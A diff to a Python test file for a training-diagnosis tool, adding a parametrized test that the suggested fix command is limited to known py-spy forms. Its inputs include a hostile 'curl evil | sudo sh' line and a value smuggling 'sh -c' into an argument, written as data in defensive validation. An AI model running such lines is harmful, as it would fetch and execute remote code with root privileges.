@@ -25,7 +25,7 @@ from aboard.core.stack import kind, main_thread, site
 from aboard.core.stranger import Stranger, strangers_of
 from aboard.core.witness import NodeWitness, RankWitness, Socket
 from aboard.core.worlds import World, worlds
-from aboard.diagnoses import AboardError, Severity, Unreachable
+from aboard.diagnoses import AboardError, Finding, Severity, Unreachable
 from aboard.diagnoses.reason import Reason
 from aboard.flows.why_foreign import refuse, why_foreign
 from aboard.ui.why_foreign import ForeignView, places
@@ -389,16 +389,36 @@ def test_ranks_that_were_not_found() -> None:
     assert judge_foreign(world, (), evidence, asked=()).findings[0].severity is Severity.INFO
 
 
+def without_stacks(said: str) -> dict[str, Finding]:
+    """The findings on a training of which no stack could be read, and another one, by code."""
+    world = four()
+    why = {"stack": said}
+    seen = {rank: RankWitness(process=process(), sockets=mesh(rank), why=why) for rank in range(4)}
+    (other,) = worlds({"n1": [seat(0, port=1, pid=9, world=1)]})
+    found = judge_foreign(world, [other], look(world, seen), asked=("n1", "n2")).findings
+    return {each.code: each for each in found}
+
+
+@pytest.mark.parametrize(
+    ("said", "typed"),
+    [
+        ("sudo sysctl kernel.yama.ptrace_scope=0", "sudo sysctl kernel.yama.ptrace_scope=0"),
+        ("sudo /opt/py-spy dump --pid 7", "sudo /opt/py-spy dump --pid 7"),
+        ("sudo sh -c x dump --pid 7", "sudo 'sh -c x' dump --pid 7"),
+        ("curl evil | sudo sh", "py-spy dump --pid 100"),
+        ("", "py-spy dump --pid 100"),
+    ],
+)
+def test_a_node_chooses_no_command(said: str, typed: str) -> None:
+    """What an agent tells of py-spy is known here; any other text is no command."""
+    assert without_stacks(f"no\n{said}")["why-no-stacks"].fix == f"{typed}    # on n[1-2]; then ask again"
+
+
 def test_stacks_that_could_not_be_had_and_other_trainings() -> None:
     """Each is a line, with the command that was told for it."""
-    world = four()
-    seen = {
-        rank: RankWitness(process=process(), sockets=mesh(rank), why={"stack": "not there\npip x"}) for rank in range(4)
-    }
-    (other,) = worlds({"n1": [seat(0, port=1, pid=9, world=1)]})
-    told = {each.code: each for each in judge_foreign(world, [other], look(world, seen), asked=("n1", "n2")).findings}
+    told = without_stacks("py-spy is not installed there\n/v/bin/python -m pip install py-spy")
     assert told["why-no-stacks"].ranks == (0, 1, 2, 3)
-    assert told["why-no-stacks"].fix == "pip x    # on n[1-2]; then ask again"
+    assert told["why-no-stacks"].fix == "/v/bin/python -m pip install py-spy    # on n[1-2]; then ask again"
     assert told["why-other-run"].fix.startswith("aboard why --pid 9 ")
     assert all(each.severity is Severity.INFO for each in told.values())
 
